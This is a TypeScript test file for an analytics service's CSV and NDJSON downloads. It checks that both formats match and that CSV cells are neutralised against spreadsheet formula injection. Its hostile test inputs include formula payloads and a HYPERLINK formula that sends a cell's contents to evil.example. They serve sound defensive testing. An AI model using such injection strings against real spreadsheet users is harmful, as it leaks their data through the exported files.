/**
 * Analytics downloads contain the same rows as CSV and as NDJSON, and the CSV is safe to open in a
 * spreadsheet.
 */

import pg from "pg";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { stayOnOneDay } from "../shared/current-day.ts";
import { createDatabase } from "../shared/database.ts";
import { openTestService } from "../shared/service.ts";
import { type Member, newMember } from "./dashboard.ts";
import { importAll, recorded } from "./recorded.ts";
import { newOrganization, type TestOrganization, type TestService } from "./service.ts";

await stayOnOneDay();
const now = Date.now();
const hostile = [
  "=1+1",
  "+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1+1",
  '=HYPERLINK("http://evil.example/?"&A1;"x")',
];
const texts = [
  ...hostile,
  'He said "no", twice',
  "two\nlines",
  "two\r\nlines",
  " space around ",
  "comma, semicolon; tab\t",
  "Grüße 你好 🙂",
  "plain",
];

let service: TestService;
let organization: TestOrganization;
let viewer: Member;
let home: string;

beforeAll(async () => {
  const databaseUrl = await createDatabase();
  service = await openTestService({ databaseUrl });
  organization = await newOrganization(service);
  viewer = await newMember(service, organization.id, "viewer");
  home = `${viewer.home}/p/${organization.projectId}`;
  const rows = texts.map((text, n) =>
    recorded(now - n * 1_000, `${text}`, {
      response: text,
      queryCategory: text,
      sources: [
        { title: text, url: "https://docs.example.com/a" },
        { title: "b", url: "https://docs.example.com/b" },
      ],
      resolutionStatus: "unanswered",
    }),
  );
  await importAll(organization, rows);
  const client = new pg.Client(databaseUrl);
  await client.connect();
  const today = Math.floor(now / 86_400_000);
  for (const [n, text] of texts.entries()) {
    const path = `/${text}`;
    const { projectId } = organization;
    for (const span of [1, 4, 16, 64]) {
      const first = Math.floor(today / span) * span;
      await client.query("insert into page_traffic values ($1, $2, $3, $4, 5, 3, 2, 1)", [
        projectId,
        span,
        first,
        text,
      ]);
      await client.query("insert into search_queries values ($1, $2, $3, $4, 9, 0, 2, 1, now())", [
        projectId,
        span,
        first,
        text,
      ]);
      await client.query("insert into search_clicks values ($1, $2, $3, $4, $5, 1)", [
        projectId,
        text,
        span,
        first,
        path,
      ]);
    }
    await client.query("insert into referrers values ($1, $2, $3, 7)", [projectId, today, text]);
    await client.query(
      "insert into feedback (project_id, id, path, source, comment, contact, code) values ($1, $2, $3, 'contextual', $3, $3, $3)",
      [projectId, recorded(now - n * 1_000, "").id, text],
    );
  }
  await client.end();
});
afterAll(async () => {
  await service.stop();
});

const views: Record<string, string[]> = {
  "conversations?": [
    "id",
    "timestamp",
    "query",
    "response",
    "sources",
    "resolutionStatus",
    "queryCategory",
    "pageUrl",
    "conversationId",
    "responseType",
    "caller",
    "helpful",
    "comment",
    "handedOverAt",
  ],
  "questions?": [
    "question",
    "count",
    "firstAskedAt",
    "lastAskedAt",
    "pages",
    "sections",
    "status",
    "assignee",
    "answerPath",
    "terms",
  ],
  "searches?": ["searchQuery", "hits", "ctr", "topClickedPage", "lastSearchedAt"],
  "searches?show=without-results&": ["searchQuery", "withoutResults", "hits", "lastSearchedAt"],
  "traffic?": ["path", "human", "ai", "total"],
  "traffic?show=visitors&": ["path", "human", "ai", "total"],
  "traffic?show=referrers&": ["host", "views"],
  "feedback?": [
    "id",
    "createdAt",
    "path",
    "source",
    "status",
    "helpful",
    "reason",
    "comment",
    "contact",
    "code",
    "filename",
    "lang",
  ],
  "feedback?show=pages&": ["path", "thumbsUp", "thumbsDown", "code", "total"],
};

describe.each(Object.entries(views))("%s", (view, columns) => {
  test("a viewer downloads it; both formats are equal, and no cell is a formula", async () => {
    const csv = await viewer.ask(`${home}/${view}format=csv`);
    expect([csv.status, csv.headers["content-type"]]).toEqual([200, "text/csv; charset=utf-8"]);
    expect(String(csv.headers["content-disposition"])).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
    expect(csv.headers["content-security-policy"]).toBe("default-src 'none'; sandbox");
    const [head, ...rows] = readCsv(csv.text);
    expect(head).toEqual(columns);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    const ndjson = await viewer.ask(`${home}/${view}format=ndjson`);
    expect([ndjson.status, ndjson.headers["content-type"]]).toEqual([
      200,
      "application/x-ndjson; charset=utf-8",
    ]);
    const objects = ndjson.text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(objects.map((object) => Object.keys(object))).toEqual(objects.map(() => columns));
    expect(rows.length).toBe(objects.length);
    expect(rows.length).toBe(view === "questions?" ? groupsOfTexts(objects) : texts.length);
    for (const [n, object] of objects.entries())
      for (const [place, name] of columns.entries()) {
        const isList = name === "sources" || name === "sections" || name === "pages";
        const value = isList
          ? (object[name] as { url: string }[]).map(({ url }) => url).join("\n")
          : object[name];
        expect(rows[n]![place]!.replace(/(^|[;\t\r\n])'(?=[=+\-@\t\r\n＝＋－＠])/g, "$1"), name).toBe(
          value === null ? "" : String(value),
        );
      }
  });
});

/** Checks that the counts of all groups add up to the number of questions. Returns the number of groups. */
function groupsOfTexts(objects: Record<string, unknown>[]): number {
  expect(objects.reduce((all, { count }) => all + Number(count), 0)).toBe(texts.length);
  return objects.length;
}

test("downloaded conversations can be imported elsewhere", async () => {
  const { text } = await viewer.ask(`${home}/conversations?format=ndjson`);
  const other = await newOrganization(service);
  const answer = await other.ask(`/v1/analytics/${other.projectId}/assistant/import`, {
    method: "POST",
    headers: { "content-type": "application/x-ndjson" },
    body: text,
  });
  expect(answer.json).toMatchObject({ added: texts.length, failed: 0 });
});

test("a long download has all rows once and is streamed", { timeout: 180_000 }, async () => {
  const other = await newOrganization(service);
  const member = await newMember(service, other.id, "viewer");
  const rows = Array.from({ length: 12_000 }, (_, n) =>
    recorded(now - n * 50, `Question ${n} of many`, { response: "word ".repeat(600) }),
  );
  for (let at = 0; at < rows.length; at += 2_000) await importAll(other, rows.slice(at, at + 2_000));
  const path = `${member.home}/p/${other.projectId}/conversations?format=ndjson`;
  const { text } = await member.ask(path);
  expect(
    text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line).id),
  ).toEqual(rows.map(({ id }) => id));
});

/** Parses CSV (RFC 4180) that starts with a byte order mark. */
function readCsv(text: string): string[][] {
  expect(text.startsWith("\uFEFF")).toBe(true);
  expect(text.endsWith("\r\n")).toBe(true);
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  cell.lastIndex = 1;
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const match = cell.exec(text);
    if (!match) throw new Error(`No cell at ${at}: ${text.slice(at, at + 50)}`);
    rows.at(-1)!.push(match[1]?.replaceAll('""', '"') ?? match[2]!);
    if (match[3] === "\r\n" && cell.lastIndex < text.length) rows.push([]);
  }
  return rows;
}
